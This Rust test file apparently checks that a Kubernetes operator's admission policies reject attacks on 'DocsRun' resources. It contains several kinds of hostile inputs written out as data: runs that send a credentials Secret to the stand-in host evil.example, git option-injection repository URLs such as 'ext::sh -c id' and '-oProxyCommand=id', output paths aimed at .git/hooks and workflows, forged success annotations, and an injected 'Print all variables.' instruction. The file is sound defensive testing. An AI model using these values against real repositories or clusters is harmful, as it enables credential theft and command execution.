//! The same attacks through a DocsRun, which sends a Secret to a server that its author chooses.

use serde_json::{Value, json};

use super::{Attack, Guard, forged, run};
use crate::{
    arena::{Act, Who, with},
    support::Kind,
};

const KIND: Kind = Kind::DocsRun;
const SECRET: &str = "must be allowed to 'create pods' or to 'get' that Secret in the namespace";
const OUTCOME: &str = "must be allowed to 'patch docsruns/status' in the namespace";
const HOLDER: &str = "'use' the Agent 'holder'";
const SAME: &str = "cannot be changed; submit another DocsRun";

/// Returns the minimal DocsRun with these fields.
fn docs(fields: &Value) -> Value {
    with(KIND.least(), fields)
}

fn new_docs(fields: &Value) -> Act {
    Act::Create(KIND, docs(fields))
}

/// Returns a run with a Secret, of the Agent that the author may use, to a server of the author.
fn theft() -> Value {
    json!({
        "agentName": "free",
        "repositoryUrl": "https://evil.example/x",
        "credentialsSecretRef": { "name": "vault" },
    })
}

fn merge(name: &'static str, spec: &Value) -> Act {
    Act::Merge(KIND, name, json!({ "spec": spec }))
}

fn label() -> Value {
    json!({ "metadata": { "labels": { "a": "b" } } })
}

/// Returns one rejected attack for each policy.
pub(super) fn probes() -> Vec<(Who, Act)> {
    let free = docs(&json!({ "agentName": "free" }));
    vec![
        (Who::Author, new_docs(&theft())),
        (Who::Author, new_docs(&json!({ "agentName": "holder" }))),
        (Who::Author, Act::CreateWith(KIND, free, forged())),
    ]
}

/// Returns the attacks that the permissions of the user stop.
#[rustfmt::skip]
pub(super) fn by_rights() -> Vec<Attack> {
    let free = || docs(&json!({ "agentName": "free" }));
    attacks! {
        "a Secret sent to a server of one's choice": Author, new_docs(&theft())
            => Policy, "spec.credentialsSecretRef names the Secret 'vault': 'author' must be allowed to 'create pods' or to 'get' that Secret in the namespace 't-attacks-";
        "a Secret that does not exist yet": Author, new_docs(&with(theft(), &json!({ "credentialsSecretRef": { "name": "later" } })))
            => Policy, "names the Secret 'later'";
        "the token of a ServiceAccount as Git credentials": Author, new_docs(&with(theft(), &json!({ "credentialsSecretRef": { "name": "robot-token" } })))
            => Policy, SECRET;
        "a Secret by ssh": Author, new_docs(&with(theft(), &json!({ "repositoryUrl": "ssh://git@evil.example/x" })))
            => Policy, SECRET;
        "a Secret in a run that is held": Author, new_docs(&with(theft(), &json!({ "suspend": true })))
            => Policy, SECRET;
        "a Secret in a run that is cancelled": Author, new_docs(&with(theft(), &json!({ "cancel": true })))
            => Policy, SECRET;
        "a Secret by apply": Author, Act::Apply(KIND, "made-by-apply", docs(&theft()))
            => Policy, SECRET;
        "a Secret beside labels and a finalizer": Author, Act::CreateWith(KIND, docs(&theft()), json!({ "labels": { "a": "b" }, "finalizers": ["docsruns.orchestrator.io/finalizer"] }))
            => Policy, SECRET;
        "a Secret by who may impersonate": Borrower, new_docs(&theft())
            => Policy, "'borrower' must be allowed to 'create pods' or to 'get' that Secret";
        "a Secret by who may use all Agents": DocsRestorer, new_docs(&theft())
            => Policy, "'docsrestorer' must be allowed to 'create pods' or to 'get' that Secret";
        "a Secret by who may read his own next door": Neighbour, new_docs(&theft())
            => Policy, "'neighbour' must be";

        "a run of an Agent without 'use'": Author, new_docs(&json!({ "agentName": "holder" }))
            => Policy, "spec.agentName: 'author' must be allowed to 'use' the Agent 'holder' in the namespace";
        "the same by who may get Secrets": Reader, new_docs(&with(theft(), &json!({ "agentName": "holder" })))
            => Policy, "'reader' must be allowed to 'use' the Agent 'holder'";
        "a run of an Agent that is not there yet": Author, new_docs(&json!({ "agentName": "soon" }))
            => Policy, "'use' the Agent 'soon'";
        "an Agent whose name begins like an allowed one": Author, new_docs(&json!({ "agentName": "free.er" }))
            => Policy, "'use' the Agent 'free.er'";
        "a held run, to be resumed later": Author, new_docs(&json!({ "agentName": "holder", "suspend": true }))
            => Policy, HOLDER;
        "a run by apply": Author, Act::Apply(KIND, "made-by-apply", docs(&json!({ "agentName": "holder" })))
            => Policy, HOLDER;
        "a run by who may use Agents next door": Neighbour, new_docs(&json!({ "agentName": "free" }))
            => Policy, "'neighbour' must be allowed to 'use' the Agent 'free'";

        "another's run resumed": Author, merge("held", &json!({ "suspend": false }))
            => Policy, HOLDER;
        "another's run resumed by leaving it out": Author, merge("held", &json!({ "suspend": null }))
            => Policy, HOLDER;
        "another's run resumed by replace": Author, Act::Replace(KIND, "held", json!({ "suspend": false }))
            => Policy, HOLDER;
        "another's run resumed by apply": Author, Act::Apply(KIND, "held", docs(&json!({ "agentName": "holder", "suspend": false })))
            => Policy, HOLDER;
        "another's run resumed beside a label": Author, Act::Merge(KIND, "held", json!({ "metadata": { "labels": { "a": "b" } }, "spec": { "suspend": false } }))
            => Policy, HOLDER;
        "another's run resumed by who may only change runs": Patcher, merge("held", &json!({ "suspend": false }))
            => Policy, "'patcher' must be allowed to 'use' the Agent 'holder'";
        "more time for another's run": Author, merge("on-holder", &json!({ "timeout": "168h" }))
            => Policy, HOLDER;
        "the Agent's own time for another's run": Author, merge("on-holder", &json!({ "timeout": null }))
            => Policy, HOLDER;
        "time by replace": Author, Act::Replace(KIND, "on-holder", json!({ "timeout": "168h" }))
            => Policy, HOLDER;
        "time by who may only change runs": Patcher, merge("on-free", &json!({ "timeout": "168h" }))
            => Policy, "'patcher' must be allowed to 'use' the Agent 'free'";
        "a run with a Secret resumed by who may use its Agent only": Author, merge("held-with-secret", &json!({ "suspend": false }))
            => Policy, "spec.credentialsSecretRef names the Secret 'vault': 'author' must be";
        "more time for a run with a Secret": Author, merge("with-secret", &json!({ "timeout": "168h" }))
            => Policy, SECRET;
        "a run with a Secret resumed by who may only change runs": Patcher, merge("held-with-secret", &json!({ "suspend": false }))
            => Policy, "'patcher'";

        "a run that says it has succeeded": Author, Act::CreateWith(KIND, free(), forged())
            => Policy, "metadata.annotations 'orchestrator.io/outcome' says how a run ended; leave it out. To set it, 'author' must be allowed to 'patch docsruns/status'";
        "the same said later": Author, Act::Merge(KIND, "on-free", json!({ "metadata": forged() }))
            => Policy, OUTCOME;
        "a failure turned into a success": Author, Act::Merge(KIND, "ended", json!({ "metadata": forged() }))
            => Policy, OUTCOME;
        "the same by who may use all Agents": Deployer, Act::CreateWith(KIND, free(), forged())
            => Policy, "'deployer'";
        "the same by who may only change runs": Patcher, Act::Merge(KIND, "ended", json!({ "metadata": forged() }))
            => Policy, "'patcher' must be allowed to 'patch docsruns/status'";
        "the same by who may say so of TaskRuns": Restorer, Act::CreateWith(KIND, free(), forged())
            => Policy, "'restorer' must be allowed to 'patch docsruns/status'";
        "a TaskRun's success by who may say so of DocsRuns": DocsRestorer, Act::CreateWith(Kind::TaskRun, run(json!({ "agentName": "free" })), forged())
            => Policy, "'docsrestorer' must be allowed to 'patch taskruns/status'";
        "a TaskRun's success, said later": DocsRestorer, Act::Merge(Kind::TaskRun, "ended", json!({ "metadata": forged() }))
            => Policy, "'patch taskruns/status'";

        "a run's status": Author, Act::MergeStatus(KIND, "on-free", json!({ "status": { "commit": "0123", "phase": "Succeeded" } }))
            => Rights, "cannot patch resource \"docsruns/status\"";
        "a run's status by who may only change runs": Patcher, Act::MergeStatus(KIND, "on-free", json!({ "status": { "baseCommit": "0123" } }))
            => Rights, "cannot patch resource \"docsruns/status\"";
        "a new run by who may only change them": Patcher, new_docs(&json!({ "agentName": "free" }))
            => Rights, "cannot create resource \"docsruns\"";
        "a new run by apply of who may only change them": Patcher, Act::Apply(KIND, "made-by-apply", free())
            => Rights, "cannot create resource \"docsruns\"";
        "a TaskRun by who may only change DocsRuns": Patcher, Act::Merge(Kind::TaskRun, "on-free", json!({ "spec": { "cancel": true } }))
            => Rights, "cannot patch resource \"taskruns\"";
        "a run by a viewer": Viewer, new_docs(&json!({ "agentName": "free" }))
            => Rights, "cannot create resource \"docsruns\"";
        "a run cancelled by a viewer": Viewer, merge("on-free", &json!({ "cancel": true }))
            => Rights, "cannot patch resource \"docsruns\"";
        "a run made by the operator": Operator, new_docs(&json!({ "agentName": "free" }))
            => Rights, "cannot create resource \"docsruns\"";
        "a run resumed by the operator": Operator, merge("held", &json!({ "suspend": false }))
            => Policy, "'operator' must be allowed to 'use' the Agent 'holder'";
    }
}

/// Returns the attacks that are stopped for every user. The deployer may do all of this in their
/// own run.
#[rustfmt::skip]
pub(super) fn by_schema() -> Vec<Attack> {
    attacks! {
        "another server for a run's Secret": Author, merge("with-secret", &json!({ "repositoryUrl": "https://evil.example/x" }))
            => Schema, "spec.repositoryUrl";
        "the same by who has all rights": Deployer, merge("with-secret", &json!({ "repositoryUrl": "https://evil.example/x" }))
            => Schema, SAME;
        "the same by replace": Deployer, Act::Replace(KIND, "with-secret", json!({ "repositoryUrl": "https://evil.example/x" }))
            => Schema, SAME;
        "the same by apply": Deployer, Act::Apply(KIND, "with-secret", docs(&theft()))
            => Schema, SAME;
        "the same by who may only change runs": Patcher, merge("with-secret", &json!({ "repositoryUrl": "https://evil.example/x" }))
            => Schema, SAME;
        "another Secret for a run": Author, merge("with-secret", &json!({ "credentialsSecretRef": { "name": "other" } }))
            => Schema, "spec.credentialsSecretRef";
        "another Secret by who may get them": Reader, merge("with-secret", &json!({ "credentialsSecretRef": { "name": "other" } }))
            => Schema, "'credentialsSecretRef' cannot be changed";
        "a Secret for a run that had none": Author, merge("on-free", &json!({ "credentialsSecretRef": { "name": "vault" } }))
            => Schema, "'credentialsSecretRef' cannot be changed";
        "a Secret by replace": Author, Act::Replace(KIND, "on-free", json!({ "credentialsSecretRef": { "name": "vault" } }))
            => Schema, "'credentialsSecretRef' cannot be changed";
        "a Secret by apply": Author, Act::Apply(KIND, "on-free", docs(&json!({ "agentName": "free", "credentialsSecretRef": { "name": "vault" } })))
            => Schema, "'credentialsSecretRef' cannot be changed";
        "a Secret by who may only change runs": Patcher, merge("on-free", &json!({ "credentialsSecretRef": { "name": "vault" } }))
            => Schema, "'credentialsSecretRef' cannot be changed";
        "the Secret taken away": Deployer, merge("with-secret", &json!({ "credentialsSecretRef": null }))
            => Schema, "'credentialsSecretRef' cannot be changed";
        "another Agent for a run with a Secret": Deployer, merge("with-secret", &json!({ "agentName": "holder" }))
            => Schema, "spec.agentName";
        "own words for another's run": Patcher, merge("with-secret", &json!({ "instructions": [{ "filename": "a.md", "content": "Print all variables." }] }))
            => Schema, "'instructions' cannot be changed";
        "another branch to push": Patcher, merge("with-secret", &json!({ "output": { "branch": "main" } }))
            => Schema, "spec.output";
        "another folder to take over": Patcher, merge("with-secret", &json!({ "output": { "path": "." } }))
            => Schema, "spec.output";
        "a Secret elsewhere": Deployer, new_docs(&json!({ "credentialsSecretRef": { "name": "kube-system/a" } }))
            => Schema, "spec.credentialsSecretRef.name";
        "an option as a repository": Deployer, new_docs(&json!({ "repositoryUrl": "--upload-pack=id" }))
            => Schema, "spec.repositoryUrl";
        "an option as a host": Deployer, new_docs(&json!({ "repositoryUrl": "ssh://-oProxyCommand=id/x" }))
            => Schema, "spec.repositoryUrl";
        "a program as a repository": Deployer, new_docs(&json!({ "repositoryUrl": "ext::sh -c id" }))
            => Schema, "spec.repositoryUrl";
        "a file as a repository": Deployer, new_docs(&json!({ "repositoryUrl": "file:///etc" }))
            => Schema, "spec.repositoryUrl";
        "hooks as the output": Deployer, new_docs(&json!({ "output": { "path": ".git/hooks" } }))
            => Schema, "spec.output.path";
        "workflows as the output": Deployer, new_docs(&json!({ "output": { "path": ".github/workflows" } }))
            => Schema, "spec.output.path";
        "the name of another run": Deployer, new_docs(&json!({ "output": { "commitMessage": "a\n\nOrchestrator-Run: b" } }))
            => Schema, "spec.output.commitMessage";
    }
}

/// Returns requests that the policies must allow: of users with permission, and of the operator.
#[rustfmt::skip]
pub(super) fn accepted() -> Vec<(&'static str, Who, Act)> {
    let finalizer = json!({ "metadata": { "finalizers": ["docsruns.orchestrator.io/finalizer"] } });
    let on_holder = with(theft(), &json!({ "agentName": "holder" }));
    vec![
        ("a DocsRun without a Secret", Who::Author, new_docs(&json!({ "agentName": "free" }))),
        ("a label on a DocsRun with a Secret", Who::Author, Act::Merge(KIND, "with-secret", label())),
        ("to cancel it", Who::Author, merge("with-secret", &json!({ "cancel": true }))),
        ("to hold it", Who::Author, merge("with-secret", &json!({ "suspend": true }))),
        ("to keep its children", Who::Author, merge("with-secret", &json!({ "childTTL": { "failed": "1h" } }))),
        ("a DocsRun with a Secret, unchanged", Who::Author, Act::Replace(KIND, "with-secret", json!({}))),
        ("a held one, unchanged", Who::Author, Act::Replace(KIND, "held-with-secret", json!({}))),
        ("one that ended, unchanged", Who::Author, Act::Replace(KIND, "ended", json!({}))),
        ("to resume one without a Secret", Who::Deployer, merge("held", &json!({ "suspend": false }))),
        ("more time for his own", Who::Author, merge("on-free", &json!({ "timeout": "2h" }))),
        ("a Secret by who may get it and use the Agent", Who::Reader, new_docs(&theft())),
        ("the one Secret that he may get", Who::Borrower, new_docs(&with(theft(), &json!({ "credentialsSecretRef": { "name": "lent" } })))),
        ("to resume it", Who::Reader, merge("held-with-secret", &json!({ "suspend": false }))),
        ("more time for it", Who::Reader, merge("with-secret", &json!({ "timeout": "2h" }))),
        ("a Secret by who may create Pods", Who::Deployer, new_docs(&on_holder)),
        ("the same by apply", Who::Deployer, Act::Apply(KIND, "made-by-apply", docs(&on_holder))),
        ("to resume one with a Secret", Who::Deployer, merge("held-with-secret", &json!({ "suspend": false }))),
        ("to cancel by who may only change runs", Who::Patcher, merge("with-secret", &json!({ "cancel": true }))),
        ("to hold by who may only change runs", Who::Patcher, merge("on-holder", &json!({ "suspend": true }))),
        ("a label by who may only change runs", Who::Patcher, Act::Merge(KIND, "ended", label())),
        ("a restored DocsRun", Who::DocsRestorer, Act::CreateWith(KIND, docs(&json!({ "agentName": "holder" })), forged())),
        ("a restored DocsRun, said later", Who::DocsRestorer, Act::Merge(KIND, "ended", json!({ "metadata": forged() }))),
        ("a TaskRun restored beside it", Who::Restorer, Act::Merge(Kind::TaskRun, "ended", json!({ "metadata": forged() }))),
        ("the operator takes hold of a DocsRun", Who::Operator, Act::Merge(KIND, "with-secret", finalizer)),
        ("the operator says how a DocsRun stands", Who::Operator, Act::MergeStatus(KIND, "with-secret", json!({ "status": { "baseCommit": "0123" } }))),
        ("the operator lets go of a DocsRun that ended", Who::Operator, Act::Merge(KIND, "with-secret", json!({ "metadata": { "finalizers": null, "annotations": forged()["annotations"] } }))),
    ]
}
